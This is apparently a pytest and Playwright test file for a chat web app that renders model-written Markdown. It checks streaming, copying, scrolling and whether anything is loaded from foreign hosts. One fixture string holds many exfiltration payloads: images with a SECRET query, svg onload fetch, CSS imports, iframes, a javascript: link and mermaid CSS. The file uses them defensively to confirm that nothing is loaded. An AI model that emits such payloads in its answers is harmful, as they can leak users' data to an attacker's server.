"""A model's text on the page: what it loads, how it looks, and how many bytes it costs."""

import re
import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect

from liaobots.demo.server import DemoServer
from liaobots.pieces import Content
from liaobots.storage.database import Database
from liaobots.storage.records import MessageState, Outcome
from liaobots.storage.store import Store
from tests.bench.watching import Watched, in_pieces, markdown
from tests.support.app import App
from tests.support.auth_code import CODE
from tests.support.page_actions import act, ask, button, message, owner_of, way_to_copy
from tests.support.waiting import wait_until

HOSTILE = """\
An ![inline](URL/inline?q=SECRET) image, an ![by reference][r], an ![titled](URL/titled "t").

[![linked](URL/linked)](URL/target) and <img src="URL/html"> and `![in code](URL/code)`
and `![open](URL/open)

| a |
|---|
| ![in a table](URL/table) |

> - ![in a list](URL/list)

:red[x] :help[tip ![i](URL/help)] ::video[x]{src="URL/video"} :color[t]{background="url(URL/color)"}

$\\includegraphics{URL/tex}$ $![x](URL/formula)$ $$
![x](URL/block)
$$

```mermaid
flowchart TD
 A[<img src="URL/node"/>] --> B@{ img: "URL/shape", label: "x" }
```

```mermaid
%%{init: {"themeCSS": "svg{background:url(URL/css)}"}}%%
graph TD
 A-->B
 style A fill:url(URL/style)
```

<svg onload="fetch('URL/svg')"><style>@import "URL/import"</style><iframe src="URL/frame"></iframe>

A note[^1] and [odd](javascript:fetch('URL/js')) links.

[r]: URL/reference
[^1]: ![in a note](URL/note)

The end of it.
"""

DOCUMENTS = {
    "lists": (
        "Intro:\n\n- one\n\n- two\n  - deep\n\n    more\n- three\n\n"
        "1. first\n\n   ```sh\n   ls\n   ```\n\n2. second\n\nAfter."
    ),
    "fences": (
        "````md\n```py\nx = 1\n```\n````\n\n~~~\na\n\n\nb\n~~~\n\n    indented\n    code\n\nEnd."
    ),
    "tables": "Before\n\n| a | b |\n|:--|--:|\n| `x` | **y** |\n| $5 | $x^2$ |\n\nAfter\n",
    "quotes": "> One\n> two\n>\n> - three\n>   > four\n\nlazy\n\n> again\nlazy line\n",
    "references": (
        "See [the docs][d] and a note[^1].\n\n[d]: https://docs.example/x\n\n"
        "[^1]: The note.\n\nMore words."
    ),
    "formulas": (
        "Let $x^2$ be, for $5.\n\n$$\n\\int_0^1 x\\,dx\n\n= \\frac12\n$$\n\n"
        "and \\(a\\), \\[b\\].\n\n\\[\nc\n\\]\n"
    ),
    "html": "<div>\n<b>bold</b>\n</div>\n\n<!-- no -->\n\nText<br>more\n",
    "headings": "# One\nText\n\nTwo\n===\n\n### Three ###\n\n---\n\n***\n",
    "diagram": "Look:\n\n```mermaid\ngraph TD\nA-->B\n```\n\nDone.",
    "long": markdown(5000),
}


class Foreign:
    """A foreign host, which records the requests that it gets."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        visits = self.visits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def foreign() -> Iterator[Foreign]:
    host = Foreign()
    yield host
    host.close()


def words(text: str, size: int = 40) -> Iterator[str]:
    return (text[at : at + size] for at in range(0, len(text), size))


def answered(page: Page, app: App, question: str = "Go") -> Locator:
    """Ask on a new page, and return the answer when it is complete."""
    page.goto(app.url)
    ask(page, question)
    expect(way_to_copy(page)).to_be_visible()
    return message(page, 1)


@pytest.mark.parametrize("script", ["app.py", "liaobots/ui/page.py"])
def test_nothing_is_loaded_from_elsewhere(
    script: str, tmp_path: Path, page: Page, slow_demo_server: DemoServer, foreign: Foreign
) -> None:
    """Neither while it streams nor after a reload, with the security policy and without it."""
    hostile = HOSTILE.replace("URL", foreign.url)
    slow_demo_server.answer = lambda _: words(hostile)
    settings = {"LIAOBOTS_URL": slow_demo_server.url, "LIAOBOTS_AUTH": CODE}
    with App(tmp_path, script=script, **settings) as app:
        answer = answered(page, app, f"And mine? ![x]({foreign.url}/mine)")
        expect(answer).to_contain_text("The end of it.")
        expect(answer.locator("pre").first).to_contain_text("flowchart")
        if script == "app.py":
            page.reload()
        page.wait_for_timeout(1500)
        expect(answer).to_contain_text("The end of it.")
        assert answer.locator("img[src^=http], iframe, script, style, video").count() == 0
        assert foreign.visits == []
        page.evaluate("address => fetch(address, {mode: 'no-cors'}).catch(() => {})", foreign.url)
        wait_until(lambda: foreign.visits or script == "app.py")
        assert bool(foreign.visits) is (script != "app.py"), "only the policy stops a script"


def test_links_lead_to_other_sites_only(app: App, page: Page, slow_demo_server: DemoServer) -> None:
    """Links open in a new tab, without a referrer, and show their host."""
    slow_demo_server.answer = lambda _: iter(
        ["[a bank](https://thief.example/x) [in](/here) ![i](http://h.example/i)"]
    )
    answer = answered(page, app)
    links = answer.locator("a").all()
    assert [link.get_attribute("href") for link in links] == [
        "https://thief.example/x",
        "http://h.example/i",
    ]
    for link in links:
        assert link.get_attribute("target") == "_blank"
        assert "noreferrer" in (link.get_attribute("rel") or "")
    expect(answer).to_contain_text("thief.example")
    expect(answer).to_contain_text("Image: i")


# Attributes that differ between two drawings of the same text, or by their position.
CHANGING = re.compile(
    r' (?:id|aria-\w+|data-[\w-]+|class|style|width|height|d|src|href="#[^"]*")="[^"]*"'
)


def dom(answer: Locator) -> str:
    """Return the HTML of an answer without attributes that may differ."""
    parts = answer.get_by_test_id("stMarkdownContainer").all()
    html = "".join(part.inner_html() for part in parts)
    html = CHANGING.sub("", re.sub(r"<svg.*?</svg>", "<svg>", html, flags=re.S))
    return re.sub(r">\s+<", "><", html)


def height_of(answer: Locator) -> float:
    box = answer.bounding_box()
    assert box
    return box["height"]


@pytest.fixture(scope="module")
def writer() -> Iterator[DemoServer]:
    """Run a demo server for all documents."""
    with DemoServer(pace=60) as service:
        yield service


@pytest.fixture(scope="module")
def pages(
    writer: DemoServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[App, App]]:
    """Our page, and one that shows a whole text in one element."""
    ours, other = (tmp_path_factory.mktemp(name) for name in ("ours", "whole"))
    settings = {"LIAOBOTS_URL": writer.url, "LIAOBOTS_AUTH": CODE}
    text = str(other / "text")
    with (
        App(ours, **settings) as app,
        App(other, script="tests/support/whole_text_page.py", SHOWN_TEXT=text) as whole,
    ):
        yield app, whole


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_streamed_text_looks_like_a_whole_one(
    name: str, pages: tuple[App, App], page: Page, writer: DemoServer
) -> None:
    """A streamed text looks the same after a reload, and the same as in one element."""
    app, other = pages
    text = DOCUMENTS[name]
    writer.answer = lambda _: words(text, 1 + len(text) // 60)
    answer = answered(page, app)
    if "```mermaid" in text:
        # A diagram is drawn by a part of Streamlit that is loaded when it is needed.
        expect(answer.locator("button[kind='elementToolbar']").first).to_be_attached()
    page.wait_for_timeout(500)
    streamed, height = dom(answer), height_of(answer)
    page.reload()
    expect(way_to_copy(page)).to_be_visible()
    page.wait_for_timeout(700)
    assert dom(answer) == streamed
    assert height_of(answer) == pytest.approx(height, abs=1)
    (other.log.parent / "text").write_text(text)
    streamed = streamed.removesuffix("<p>Copy</p>").removesuffix("<p>Message actions</p>")
    assert streamed in doms_of_whole(page, other)


def doms_of_whole(page: Page, other: App) -> Iterator[str]:
    """Yield the HTML of the text in one element, repeatedly until it may have been drawn.

    A diagram is drawn by a part of Streamlit that is loaded when it is needed,
    and on a busy machine a page may not get it at all.
    """
    for _ in range(3):
        page.goto(other.url)
        expect(message(page, 0).get_by_test_id("stMarkdownContainer")).to_be_visible()
        for _ in range(8):
            page.wait_for_timeout(700)
            yield dom(message(page, 0))


def test_nothing_is_sent_twice(tmp_path: Path, browser: Browser) -> None:
    """The browser gets at most a hundredth of the bytes that the pattern of tutorials sends."""
    text = markdown(16_000)
    costs = {}
    for script in ("app.py", "tests/bench/tutorial.py"):
        with DemoServer(pace=500) as service:
            service.answer = lambda _: in_pieces(text, 4000)
            settings = {"LIAOBOTS_URL": service.url, "LIAOBOTS_AUTH": CODE}
            with App(tmp_path, script=script, **settings) as app:
                page = browser.new_page()
                page.add_init_script("window.lags = []")
                page.goto(app.url)
                page.get_by_placeholder("Ask anything").wait_for()
                page.wait_for_timeout(1000)
                watched = Watched(page, app)
                ask(page, "Go")
                page.get_by_text("End t").wait_for(timeout=60_000)
                costs[script] = watched.cost().bytes
                page.close()
    assert costs["app.py"] * 100 <= costs["tests/bench/tutorial.py"]


def test_reasoning_is_folded(app: App, page: Page, slow_demo_server: DemoServer) -> None:
    """The reasoning is open while the model thinks, and folded when its answer begins."""
    thoughts = [f"thought{n} " for n in range(30)]
    slow_demo_server.answer = lambda _: iter(
        ["<think>", *thoughts, "</think>\n\n", *["I speak. "] * 30]
    )
    page.goto(app.url)
    ask(page, "Go")
    answer = message(page, 1)
    expect(answer.get_by_text("thought5")).to_be_visible()
    expect(answer.get_by_text("Thinking …")).to_be_visible()
    expect(answer).to_contain_text("I speak.")
    expect(answer.get_by_text("thought5")).to_be_hidden()
    answer.get_by_text("Thoughts", exact=True).click()
    expect(answer.get_by_text("thought29")).to_be_visible()
    expect(way_to_copy(page)).to_be_visible()


def test_an_answer_can_be_copied(app: App, page: Page, slow_demo_server: DemoServer) -> None:
    """Each way to copy gives the Markdown that the model wrote."""
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    text = "# Title\n\n- *a* `b`\n\n$5 ![i](http://h.example/i) :red[x]\n"
    slow_demo_server.answer = lambda _: iter([text])
    answered(page, app)
    for copy in (
        way_to_copy(page).click,
        partial(page.keyboard.press, "Control+Shift+Y"),
        partial(act, page, 1, "Copy"),
    ):
        page.evaluate("navigator.clipboard.writeText('')")
        copy()
        expect(page.locator("#copied")).to_be_visible()
        expect(page.locator("#copied")).to_contain_text("Copied")
        assert page.evaluate("navigator.clipboard.readText()").strip() == text.strip()
        expect(page.locator("#copied")).to_be_hidden()
    expect(page.locator("[class*='st-key-panel-'] pre")).to_contain_text("# Title")


def test_wide_content_scrolls_within_itself(
    app: App, browser: Browser, slow_demo_server: DemoServer
) -> None:
    """On a phone neither a table nor code makes the page wider."""
    row = "| " + " | ".join(f"column number {n}" for n in range(12)) + " |"
    rule = "|" + "---|" * 12
    slow_demo_server.answer = lambda _: iter(
        [f"{row}\n{rule}\n{row}\n\n```py\n{'x = 1; ' * 60}\n```\n"]
    )
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    answered(page, app)
    expect(page.locator("table")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    main = page.locator("#stMain")
    assert main.evaluate("node => node.scrollWidth - node.clientWidth") <= 0
    context.close()


def test_icon_names_in_code(app: App, page: Page, slow_demo_server: DemoServer) -> None:
    """Names of icons in code are shown as they are, although Streamlit would replace them."""
    code = 'st.button("x", icon=":material/home:")'
    slow_demo_server.answer = lambda _: iter([f"Like so:\n\n```python\n{code}\n```\n\nDone."])
    answer = answered(page, app)
    expect(answer).to_contain_text("Done.")
    assert answer.locator("pre").inner_text().strip() == code
    expect(answer.get_by_text("python", exact=True)).to_be_visible()


def test_a_long_chat_opens_at_its_end(
    own_app: App, context: BrowserContext, page: Page, tmp_path: Path
) -> None:
    """It shows its newest messages, and earlier ones on request."""
    page.goto(own_app.url)
    expect(page.get_by_text("What would you like to know?")).to_be_visible()
    file = next(tmp_path.rglob("chats.db"))
    chat = fill(Store(Database(f"sqlite:///{file}")), owner_of(context), 150)
    page.goto(f"{own_app.url}/{chat}")
    expect(page.get_by_text("Answer 149", exact=True)).to_be_in_viewport()
    expect(page.get_by_test_id("stChatMessage")).to_have_count(20)
    button(page, "Earlier messages").click()
    expect(page.get_by_test_id("stChatMessage")).to_have_count(40)
    expect(page.get_by_text("Answer 130", exact=True)).to_be_visible()


def test_the_reader_may_scroll_up(app: App, page: Page, slow_demo_server: DemoServer) -> None:
    """The view follows the text, stays where the reader scrolls, and follows again on request."""
    has_scrolled = threading.Event()

    def answer(_: object) -> Iterator[str]:
        yield from (f"Line {n}\n\n" for n in range(41))
        has_scrolled.wait(60)
        yield from (f"Line {n}\n\n" for n in range(41, 160))

    slow_demo_server.answer = answer
    page.goto(app.url)
    ask(page, "Go")
    expect(page.get_by_text("Line 40", exact=True)).to_be_in_viewport()
    page.mouse.move(640, 400)
    page.mouse.wheel(0, -300)
    expect(button(page, "↓ Newest")).to_be_visible()
    page.wait_for_timeout(500)
    has_scrolled.set()
    place = page.locator("#stMain").evaluate("node => node.scrollTop")
    expect(page.get_by_text("Line 90", exact=True)).to_be_attached()
    assert page.locator("#stMain").evaluate("node => node.scrollTop") == pytest.approx(place, abs=5)
    button(page, "↓ Newest").click()
    expect(page.get_by_text("Line 159", exact=True)).to_be_in_viewport()
    expect(button(page, "↓ Newest")).to_be_hidden()
    page.mouse.wheel(0, -300)
    expect(button(page, "↓ Newest")).to_be_visible()
    ask(page, "Another?")
    expect(message(page, 2)).to_be_in_viewport()


def fill(store: Store, owner: str, turns: int) -> str:
    """Store a chat with `turns` questions and answers, and return its id."""
    chat = None
    for number in range(turns):
        asked = store.ask(owner, chat, f"Question {number}", "gpt-4")
        assert asked
        store.finish(owner, asked, Content(text=f"Answer {number}"), Outcome(MessageState.DONE))
        chat = asked.conversation
    store.close()
    assert chat
    return chat
